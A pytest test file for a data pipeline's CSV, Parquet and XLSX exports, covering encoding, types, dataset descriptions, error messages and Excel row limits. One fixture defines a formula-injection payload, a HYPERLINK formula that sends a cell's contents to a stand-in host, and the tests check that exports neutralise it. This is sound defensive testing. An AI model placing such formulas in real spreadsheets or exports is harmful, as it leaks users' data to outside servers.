"""Exports: what is published reaches Excel, Python and R whole, typed, described; page text is never a formula."""

import csv
import hashlib
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import duckdb
import pytest

from pipeline.errors import UsageError
from pipeline.settings import Settings
from pipeline.stages.exporting import export
from pipeline.warehouse.access import writer
from pipeline.warehouse.load import load
from pipeline.warehouse.publish import publish
from pipeline.warehouse.settle import settle
from pipeline.workbook import Sheet, write_workbook
from warehouse_world import START, batch, rank, read, ready_settings

FORMULA = '=HYPERLINK("https://mau.example/?"&A1,"Yên Bái")'


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    settings = ready_settings(tmp_path_factory.mktemp("export"))
    article = read(1, [rank(21)])
    article = replace(article, article=replace(article.article, title=FORMULA))
    with writer(settings) as warehouse:
        load(warehouse, batch("b1", [article]))
        settle(warehouse, ["b1"], [], lambda changes: [], START)
    publish(settings)
    return settings


def exported_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def sheet(path: Path, number: int) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read(f"xl/worksheets/sheet{number}.xml").decode()


def test_csv_opens_in_excel_with_its_diacritics(settings: Settings, tmp_path: Path) -> None:
    export(settings, ["rank_history"], "csv", tmp_path)

    path = tmp_path / "rank_history.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbfsubject,")
    assert {
        "entity": "yen-bai",
        "entity_name": "Yên Bái",
        "period": "2021",
        "subject": "PAR_INDEX",
        "rank": "21",
    }.items() <= next(row for row in exported_cells(path) if row["portal"] == "mau").items()


def test_parquet_keeps_types_and_rows(settings: Settings, tmp_path: Path) -> None:
    export(settings, ["figure"], "parquet", tmp_path)

    with duckdb.connect(str(settings.published_copy), read_only=True) as copy:
        held = copy.execute("SELECT count(*), sum(value) FROM figure").fetchone()
        assert copy.execute(f"SELECT count(*), sum(value) FROM '{tmp_path}/figure.parquet'").fetchone() == held


def test_text_of_a_page_is_never_a_formula(settings: Settings, tmp_path: Path) -> None:
    export(settings, ["figure_receipt"], "csv", tmp_path)
    export(settings, ["figure_receipt"], "xlsx", tmp_path)

    assert exported_cells(tmp_path / "figure_receipt.csv")[0]["title"] == "'" + FORMULA
    assert "<f>" not in sheet(tmp_path / "parwatch.xlsx", 1)
    assert "=HYPERLINK(" in sheet(tmp_path / "parwatch.xlsx", 1)


def test_a_workbook_is_typed_frozen_filtered_and_explained(settings: Settings, tmp_path: Path) -> None:
    export(settings, ["figure_receipt"], "xlsx", tmp_path)

    data, notes = sheet(tmp_path / "parwatch.xlsx", 1), sheet(tmp_path / "parwatch.xlsx", 2)
    assert 'state="frozen"' in data
    assert "<autoFilter" in data
    assert re.search(r'<c r="[A-Z]+2"><v>21</v></c>', data)  # the value is a number
    assert re.search(r'<c r="[A-Z]+2" s="\d"><v>44819</v></c>', data)  # the day is a day
    assert "SHA-256 of the page" in notes
    assert "belong to the publishers" in notes
    assert "https://" in notes


def test_the_description_names_type_source_and_hash(settings: Settings, tmp_path: Path) -> None:
    export(settings, ["contradiction", "accepted_observation"], "csv", tmp_path)

    described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    for resource in described["resources"]:
        body = (tmp_path / resource["path"]).read_bytes()
        assert resource["hash"] == "sha256:" + hashlib.sha256(body).hexdigest()
        assert resource["bytes"] == len(body)
        names = [field["name"] for field in resource["schema"]["fields"]]
        assert body.decode("utf-8-sig").splitlines()[0].split(",") == names
        assert all(field["type"] != "any" and field["description"] for field in resource["schema"]["fields"])
    assert any(source.get("path", "").startswith("https://") for source in described["sources"])


def test_everything_that_is_offered_can_be_exported(settings: Settings, tmp_path: Path) -> None:
    report = export(settings, [], "parquet", tmp_path)

    with duckdb.connect(str(settings.published_copy), read_only=True) as copy:
        offered = {row[0] for row in copy.execute('SELECT DISTINCT "view" FROM data_dictionary').fetchall()}
    assert {path.stem for path in report.files} - {"datapackage"} == offered
    assert sorted(tmp_path.iterdir()) == sorted(report.files)


def test_an_unknown_view_or_format_is_told_before_anything_is_written(settings: Settings, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no view 'figur'; there are accepted_observation"):
        export(settings, ["figur"], "csv", tmp_path / "a")
    with pytest.raises(UsageError, match="no format 'ods'"):
        export(settings, [], "ods", tmp_path / "b")
    assert not list(tmp_path.rglob("*.csv"))


def test_too_many_rows_for_excel_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipeline.workbook.ROWS", 2)

    with pytest.raises(UsageError, match="use parquet or csv"):
        write_workbook(tmp_path / "a.xlsx", [Sheet("many", ("a",), [(1,), (2,), (3,)])], START)
